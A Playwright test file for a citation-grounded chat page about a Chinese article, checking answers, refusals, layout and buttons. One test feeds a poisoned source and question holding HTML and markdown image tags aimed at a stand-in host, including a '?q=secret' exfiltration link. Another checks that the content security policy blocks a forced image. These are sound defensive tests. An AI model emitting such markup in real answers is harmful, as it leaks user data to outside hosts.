import os
import re
import shutil
from importlib.util import find_spec
from pathlib import Path

import pytest

from guarded_chat import serving

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
WAIT_MS = 30_000
SIZES = {"desktop": (1440, 900), "laptop": (1024, 768), "phone": (390, 844)}

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(
        CHROMIUM is None, reason="no chromium on PATH: apt-get install chromium fonts-noto-cjk"
    ),
    pytest.mark.skipif(
        find_spec("playwright") is None, reason="playwright is missing: pip install playwright"
    ),
    pytest.mark.skipif(find_spec("gradio") is None, reason="the chat page needs pip install 'zhangju[chat]'"),
]


@pytest.fixture(scope="module")
def assistant():
    """What answers the questions below, as ``module:callable``."""
    return "handmade:HandmadeAssistant"


@pytest.fixture(scope="module")
def questions():
    """One question that the assistant answers, one in English, and one that it refuses."""
    return {
        "answered": ("武进重点布局哪些未来产业？", "合成生物、氢能和新型储能"),
        "again": ("创新的主体和核心分别是什么？", "创新的核心是人才。"),
        "english": ("Which future industries is Wujin focusing on?", "合成生物、氢能和新型储能"),
        "refused": "武进区的平均房价是多少？",
    }


@pytest.fixture(scope="module")
def served(assistant):
    """The page, served under a guard around its sockets."""
    with serving(assistant) as served:
        yield served


@pytest.fixture(scope="module")
def chromium():
    """Headless Chromium, with its own phoning home turned off."""
    from playwright.sync_api import sync_playwright

    quiet = [
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
    ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-quic", *quiet]
        )
        yield browser
        browser.close()


@pytest.fixture
def shot(tmp_path):
    """Save a screenshot under a name, in ``ZHANGJU_SCREENSHOTS`` when that is set."""
    folder = Path(os.environ.get("ZHANGJU_SCREENSHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)

    def save(tab, name):
        tab.wait_for_timeout(400)  # smooth scrolling comes to rest
        tab.screenshot(path=folder / f"{name}.png")

    return save


@pytest.fixture
def visit(chromium, served):
    """Open the page as a visitor; at the end, no request may have left the machine."""
    contexts, requests = [], []

    def open_page(locale="zh-CN", size="desktop", scheme="light"):
        width, height = SIZES[size]
        context = chromium.new_context(
            viewport={"width": width, "height": height},
            locale=locale,
            color_scheme=scheme,
            permissions=["clipboard-read", "clipboard-write"],
        )
        contexts.append(context)
        tab = context.new_page()
        tab.set_default_timeout(WAIT_MS)
        tab.on("request", lambda request: requests.append(request.url))
        tab.goto(served.address)
        tab.wait_for_selector("#zj-question textarea")
        tab.wait_for_selector(".zj-header")
        return tab

    open_page.refused = set()  # addresses that a test makes the browser refuse
    yield open_page
    for context in contexts:
        context.close()
    outside = [url for url in requests if not url.startswith((served.address, "data:", "blob:"))]
    assert set(outside) == open_page.refused
    assert served.attempts == []


def ask(tab, question):
    """Send a question and wait for the whole answer; return its message."""
    answers = tab.locator(".bot-row").count()
    tab.fill("#zj-question textarea", question)
    tab.press("#zj-question textarea", "Enter")
    return finished(tab, answers)


def finished(tab, answers):
    """Wait until one more answer stands complete."""
    message = tab.locator(".bot-row").nth(answers)
    message.locator(".zj-foot, .zj-status-failed").wait_for()
    tab.wait_for_selector("#zj-question .submit-button")
    return message


def test_a_question_in_chinese_is_answered_with_its_source(visit, questions, shot):
    """Asked in Chinese, the page answers, and a citation opens the card with the quoted words."""
    tab = visit()
    assert tab.title() == "章句 Zhangju"
    shot(tab, "empty-zh")
    question, expected = questions["answered"]
    message = ask(tab, question)
    assert expected in message.inner_text()
    assert re.search(r"\[1\]", message.inner_text())
    shot(tab, "answer-zh")

    message.locator("a.zj-cite").first.click()
    card = tab.locator("#zj-1-1")
    assert "zj-current" in card.get_attribute("class")
    marked = "".join(card.locator(".zj-short mark, p.zj-text:not(.zj-whole) mark").all_inner_texts())
    assert expected in marked
    assert card.locator(".zj-heading").inner_text().strip()
    assert re.search(r"\d+–\d+", card.locator(".zj-where").inner_text())
    shot(tab, "citation-zh")

    if card.locator("details.zj-passage").count():
        card.locator("summary").click()
        whole = card.locator(".zj-whole")
        assert whole.is_visible()
        assert "".join(whole.locator("mark").all_inner_texts()) == marked


def test_every_citation_of_every_turn_keeps_its_card(visit, questions):
    """After a second question, the first answer's markers still lead to their own cards."""
    tab = visit()
    for key in ("answered", "again"):
        question, expected = questions[key]
        assert expected in ask(tab, question).inner_text()
    for link in tab.locator("a.zj-cite").all():
        link.click()
        card = tab.locator(link.get_attribute("href"))
        card.wait_for(state="visible")
        assert "zj-current" in card.get_attribute("class")
        assert tab.locator(".zj-current").count() == 1


@pytest.mark.parametrize("locale", ["zh-CN", "en-US"])
def test_what_the_article_does_not_say_is_said(visit, questions, shot, locale):
    """A refusal looks like one and shows the closest passages."""
    tab = visit(locale)
    message = ask(tab, questions["refused"])
    assert message.locator(".zj-status-refused").is_visible()
    assert message.locator("a.zj-cite").count() == 0
    assert tab.locator(".zj-closest").is_visible()
    assert tab.locator(".zj-card").count() >= 1
    shot(tab, f"refusal-{locale[:2]}")


@pytest.mark.parametrize(
    ("locale", "word"), [("zh-CN", "出处"), ("zh-TW", "出处"), ("en-GB", "Sources"), ("de", "Sources")]
)
def test_the_browser_chooses_the_language(visit, locale, word):
    """The page's own words, its examples and its question box follow the browser's language."""
    tab = visit(locale)
    assert tab.locator(".zj-panel-title").inner_text() == word
    assert tab.get_attribute("#zj-question textarea", "placeholder").startswith(
        "就文章" if word == "出处" else "Ask"
    )
    shown = tab.locator(".example:visible").all_inner_texts()
    assert len(shown) == 4
    assert all(text.isascii() == (word == "Sources") for text in shown)


def test_an_example_asks_itself(visit):
    """One click on an example is a question."""
    tab = visit()
    tab.locator(".example:visible").first.click()
    assert finished(tab, 0).inner_text()


def test_a_planted_image_is_never_fetched(visit, assistant, shot):
    """Markup in a source or a question shows as text; the browser requests none of it."""
    if not assistant.startswith("handmade"):
        pytest.skip("the handmade assistant holds the poisoned source")
    tab = visit()
    question = "poison <img src=http://leak.invalid/u.png> ![a](http://leak.invalid/v.png) **b**"
    message = ask(tab, question)
    tab.wait_for_timeout(500)
    assert tab.locator(".user-row").inner_text() == question
    assert "![x](http://leak.invalid/a.png?q=secret)" in message.inner_text()
    assert "U+202E" in tab.locator("#zj-1-1").inner_text()
    made = tab.locator(
        ":is(#zj-chatbot .message-content, #zj-panel .prose) :is(img, script, style, code, strong)"
    )
    assert made.count() == 0
    assert tab.evaluate("window.pwned") is None
    links = tab.locator("#zj-chatbot a, #zj-panel a").evaluate_all(
        "all => all.map(a => a.getAttribute('href'))"
    )
    assert all(link.startswith("#zj-") for link in links)
    shot(tab, "poison")


def test_the_policy_stops_what_the_markup_would_fetch(visit):
    """Even an image put into the page by force is not requested: the browser refuses it."""
    tab = visit()
    failures = []
    tab.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
    visit.refused.add("http://leak.invalid/forced.png")
    blocked = tab.evaluate(
        """() => new Promise((done) => {
            document.addEventListener("securitypolicyviolation", (event) => done(event.violatedDirective));
            const image = new Image();
            image.src = "http://leak.invalid/forced.png";
            document.body.append(image);
        })"""
    )
    assert blocked == "img-src"
    assert failures == [("http://leak.invalid/forced.png", "csp")]


def test_stop_retry_undo_and_clear(visit, questions):
    """The buttons keep conversation and sources together."""
    tab = visit()
    ask(tab, questions["answered"][0])
    ask(tab, questions["refused"])
    retry, undo = (tab.locator(".message-buttons button").nth(n) for n in (0, 1))
    retry.click()
    tab.wait_for_timeout(200)
    finished(tab, 1)
    assert tab.locator(".zj-turn").count() == tab.locator(".user-row").count() == 2
    undo.click()
    tab.wait_for_function("() => document.querySelectorAll('.zj-turn').length === 1")
    assert tab.locator(".user-row").count() == 1
    tab.locator("#zj-chatbot .top-panel button").click()
    tab.locator(".zj-empty").wait_for()
    assert tab.locator(".user-row").count() == 0

    tab.fill("#zj-question textarea", questions["answered"][0])
    tab.press("#zj-question textarea", "Enter")
    tab.locator("#zj-question .stop-button").click()
    tab.wait_for_selector("#zj-question .submit-button")
    assert questions["again"][1] in ask(tab, questions["again"][0]).inner_text()


def test_bad_questions_are_answered_in_words(visit, shot):
    """An empty and an endless question get a sentence; the next question works."""
    tab = visit()
    for question in ("   ", "问" * 100_000):
        message = ask(tab, question)
        assert message.locator(".zj-status-failed").is_visible()
        assert "Traceback" not in message.inner_text()
    assert tab.locator(".user-row").last.bounding_box()["height"] < 400
    shot(tab, "errors")


def test_a_double_submit_asks_once(visit, questions):
    """Three quick clicks are one question."""
    tab = visit()
    tab.fill("#zj-question textarea", questions["answered"][0])
    tab.evaluate(
        "() => { const b = document.querySelector('#zj-question .submit-button'); b.click(); b.click(); b.click(); }"
    )
    finished(tab, 0)
    tab.wait_for_timeout(1000)
    assert tab.locator(".user-row").count() == 1


def test_copying_keeps_the_citations(visit, questions):
    """The copy button gives the words with their markers and a list of the sources."""
    tab = visit()
    message = ask(tab, questions["answered"][0])
    message.locator(".zj-copy").click()
    tab.wait_for_function("() => document.querySelector('.zj-copy').textContent === '已复制'")
    copied = tab.evaluate("() => navigator.clipboard.readText()")
    assert questions["answered"][1] in copied
    assert re.search(r"\[1\]$", copied, re.MULTILINE)
    assert re.search(r"^\[1\] \S", copied, re.MULTILINE)
    assert "&#" not in copied


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_fits_the_window(visit, questions, shot, size, scheme):
    """Nothing sticks out sideways; on a phone the sources stand under the conversation."""
    tab = visit("en-US", size, scheme)
    shot(tab, f"{size}-{scheme}-empty")
    message = ask(tab, questions["english"][0])
    shot(tab, f"{size}-{scheme}-answer")
    message.locator("a.zj-cite").first.click()
    shot(tab, f"{size}-{scheme}-citation")
    assert tab.evaluate("() => document.documentElement.scrollWidth <= window.innerWidth")
    assert tab.locator("#zj-1-1").evaluate("card => card.getBoundingClientRect().top < window.innerHeight")
    chat, sources = (tab.locator(part).bounding_box() for part in ("#zj-chat", "#zj-sources"))
    if size == "phone":
        assert sources["y"] >= chat["y"] + chat["height"] - 1
    else:
        assert sources["x"] >= chat["x"] + chat["width"] - 1


def test_the_answer_does_not_move_what_was_read(visit, questions):
    """While an answer streams, its first line stays where it appeared."""
    tab = visit()
    tab.evaluate(
        """() => {
            window.tops = new Set();
            const look = () => {
                const line = document.querySelector(".zj-status");
                if (line) window.tops.add(Math.round(line.getBoundingClientRect().top));
                requestAnimationFrame(look);
            };
            look();
        }"""
    )
    ask(tab, questions["answered"][0])
    assert len(tab.evaluate("() => [...window.tops]")) == 1
